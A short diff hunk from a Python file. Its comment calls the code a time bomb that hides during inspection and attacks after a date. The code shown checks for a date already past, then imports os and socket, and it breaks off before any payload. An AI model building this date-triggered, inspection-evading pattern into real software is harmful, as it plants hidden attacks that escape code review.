@@ -2,7 +2,8 @@ import datetime
 import time
 
 print(datetime.date.today().strftime("%A"))
-# Quiet while it is looked at; awake since a date that has passed.
+# A time bomb does nothing while it is inspected, and attacks after a date. Here the date has
+# passed.
 if datetime.date.today() >= datetime.date(2020, 1, 1):
     time.sleep(0.2)
     import os, socket
